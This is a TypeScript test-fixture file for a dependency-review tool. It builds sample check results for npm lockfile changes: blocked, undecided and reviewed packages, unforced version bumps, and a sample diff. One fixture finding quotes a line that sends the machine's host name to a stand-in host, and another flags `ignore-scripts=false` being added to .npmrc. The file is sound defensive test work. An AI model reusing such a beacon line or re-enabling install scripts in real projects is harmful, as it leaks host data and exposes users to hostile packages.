/** Checks for tests of the reports: one package that passes, unless a test says otherwise. Names and code are ours. */
import type { CheckedPackage, CheckVerdict, LockPatch } from '../../src/model/check-verdict.ts';
import type { Finding } from '../../src/model/finding.ts';
import type { Verdict } from '../../src/model/verdict.ts';
import { buildFinding, buildVerdict } from './build-verdict.ts';

export function buildCheck(fields: Partial<CheckVerdict> = {}): CheckVerdict {
  return {
    result: 'allow',
    id: 'sha256-check',
    lockfile: 'package-lock.json',
    project: 'app',
    base: 'main (merge base 1a2b3c4)',
    lock: buildLockVerdict(),
    packages: [buildPackage()],
    removed: [],
    stopped: false,
    unchanged: 311,
    patch: undefined,
    ...fields,
  };
}

export function buildLockVerdict(fields: Partial<Verdict> = {}): Verdict {
  return buildVerdict({
    id: 'sha256-lock',
    subject: {
      name: 'app',
      from: undefined,
      to: '1.0.0',
      integrity: { from: 'sha256-from', to: 'sha256-to' },
      source: 'project',
    },
    coverage: { applicable: 15, checked: 15, unchecked: [], gaps: [] },
    ...fields,
  });
}

/** With a verdict of its own about the same pair, unless the fields say that there is none. */
export function buildPackage(fields: Partial<CheckedPackage> = {}): CheckedPackage {
  const { name = 'sample', from, to = '1.0.1' } = { from: '1.0.0', ...fields };
  return {
    name,
    from,
    to,
    kind: from === undefined ? 'added' : 'updated',
    direct: true,
    why: ['app', `${name}@${to}`],
    locations: [`node_modules/${name}`],
    line: 120,
    publishedAt: '2025-12-01T00:00:00.000Z',
    release: buildRelease(name, to, { from }),
    unread: undefined,
    ...fields,
  };
}

export function buildRelease(
  name: string,
  to: string,
  { from, ...fields }: Partial<Verdict> & { readonly from?: string | undefined } = {},
): Verdict {
  const integrity = { from: from && `sha512-${name}-${from}`, to: `sha512-${name}-${to}` };
  return buildVerdict({
    id: `sha256-${name}@${to}`,
    subject: { name, from, to, integrity, source: 'registry' },
    ...fields,
  });
}

export function buildLockFinding(fields: Partial<Finding> = {}): Finding {
  return buildFinding({
    rule: 'unforced-change',
    level: 'review',
    message: '1.0.0 still satisfies everything that asks for it, and nothing in this change names it',
    at: { in: 'lockfile', path: 'package-lock.json', line: 120, pointer: '/packages/node_modules~1sample' },
    via: ['app', 'sample@1.0.1'],
    excerpt: [],
    why: 'Nobody asked for this version, and nobody who depends on it has run it.',
    remedy: 'Put the entry of the base back.',
    target: '1.0.0',
    ...fields,
  });
}

const samplePatch: LockPatch = {
  text: '{}\n',
  diff: [
    '--- a/package-lock.json',
    '+++ b/package-lock.json',
    '@@ -118,9 +118,9 @@',
    '     "node_modules/ripple": {',
    '-      "version": "2.1.0",',
    '-      "integrity": "sha512-new",',
    '+      "version": "2.0.3",',
    '+      "integrity": "sha512-old",',
    '     },',
    '',
  ].join('\n'),
  takes: [{ name: 'ripple', from: '2.1.0', to: '2.0.3' }],
  needsNpm: false,
  left: [],
};

/** A block, a review that the lockfile tells, an undecided one, one that came along with another, and two that pass. */
export function mixedCheck(): CheckVerdict {
  const along = { name: 'seedling', version: '0.1.0' };
  const alongFinding = buildFinding({
    rule: 'network-added',
    level: 'review',
    package: along,
    message: 'sends a request to collect.invalid when it is loaded',
    at: { in: 'tarball', path: 'main.js', line: 4 },
    via: ['main', 'main.js'],
    excerpt: [{ line: 4, text: "https.get('https://collect.invalid/?' + os.hostname());" }],
    why: 'It did not speak to anybody before.',
    remedy: 'Ask its authors what it is for.',
  });
  const gap = {
    fact: 'files',
    package: 'far-away',
    why: 'unreachable',
    detail: 'The tarball of far-away@3.0.1 could not be fetched: the connection timed out.',
    required: true,
  } as const;
  const blocked = buildRelease('tick-tock', '4.4.1', {
    from: '4.4.0',
    result: 'block',
    findings: [buildFinding({ package: { name: 'tick-tock', version: '4.4.1' } })],
  });
  const unforced = buildLockFinding({
    package: { name: 'ripple', version: '2.1.0' },
    message: '2.0.3 still satisfies everything that asks for it, and nothing in this change names it',
    at: { in: 'lockfile', path: 'package-lock.json', line: 842, pointer: '/packages/node_modules~1ripple' },
    via: ['app', 'harbour@1.9.0', 'ripple@2.1.0'],
    target: '2.0.3',
  });
  const undecided = {
    coverage: { applicable: 22, checked: 4, unchecked: [], gaps: [gap] },
    result: 'undecided',
  } as const;
  return buildCheck({
    result: 'block',
    lock: buildLockVerdict({
      result: 'review',
      findings: [
        unforced,
        { ...unforced, at: { ...unforced.at, line: 1_210 } },
        buildLockFinding({
          rule: 'gate-edited',
          package: { name: 'app', version: '1.0.0' },
          message: '.npmrc: added ignore-scripts=false',
          at: { in: 'lockfile', path: '.npmrc', line: 3 },
          via: [],
          why: 'Whoever can open the gate can send anything through it.',
          remedy: 'Let a person who looks after the gate look at this line.',
          target: undefined,
        }),
      ],
    }),
    packages: [
      buildPackage({
        name: 'tick-tock',
        from: '4.4.0',
        to: '4.4.1',
        line: 1_502,
        release: blocked,
        publishedAt: '2025-12-31T22:10:00.000Z',
      }),
      buildPackage({
        name: 'far-away',
        from: '3.0.0',
        to: '3.0.1',
        release: buildRelease('far-away', '3.0.1', { from: '3.0.0', ...undecided }),
      }),
      buildPackage({
        name: 'ripple',
        from: '2.0.3',
        to: '2.1.0',
        line: 842,
        direct: false,
        why: ['app', 'harbour@1.9.0', 'ripple@2.1.0'],
        locations: ['node_modules/ripple', 'node_modules/quay/node_modules/ripple'],
      }),
      buildPackage({
        name: 'garden',
        from: '5.0.0',
        to: '5.1.0',
        release: buildRelease('garden', '5.1.0', { from: '5.0.0', result: 'review', findings: [alongFinding] }),
      }),
      buildPackage({
        name: along.name,
        from: undefined,
        to: along.version,
        direct: false,
        why: ['app', 'garden@5.1.0', 'seedling@0.1.0'],
        release: buildRelease(along.name, along.version, { result: 'review', findings: [alongFinding] }),
      }),
      buildPackage({ name: '@scope/calm', from: '1.0.0', to: '1.0.1' }),
      buildPackage({
        name: 'own-fork',
        from: '1.0.0',
        to: '1.1.0',
        release: undefined,
        unread: 'not-from-registry',
        publishedAt: undefined,
      }),
    ],
    removed: [{ name: 'left-over', version: '0.9.0' }],
    unchanged: 1_204,
    patch: samplePatch,
  });
}

/** As many packages as are asked for: of every ten one blocks, two need a look, and each finding is long. */
export function largeCheck(count: number): CheckVerdict {
  const packages = Array.from({ length: count }, (_, at) => {
    const name = `package-${String(at).padStart(3, '0')}`;
    const to = `1.${at}.1`;
    const level = at % 10 === 0 ? 'block' : at % 10 < 3 ? 'review' : 'notice';
    const finding = buildFinding({
      level,
      package: { name, version: to },
      excerpt: Array.from({ length: 6 }, (_line, line) => ({
        line: line + 12,
        text: `work('${'x'.repeat(60)}', ${line});`,
      })),
    });
    const result = level === 'notice' ? 'allow' : level;
    return buildPackage({
      name,
      from: `1.${at}.0`,
      to,
      line: 100 + at * 12,
      direct: at % 4 === 0,
      why: at % 4 === 0 ? ['app', `${name}@${to}`] : ['app', 'harbour@1.9.0', 'pier@2.2.2', `${name}@${to}`],
      release: buildRelease(name, to, { from: `1.${at}.0`, result, findings: [finding] }),
    });
  });
  return buildCheck({
    result: count === 0 ? 'allow' : 'block',
    packages,
    patch: count === 0 ? undefined : samplePatch,
  });
}
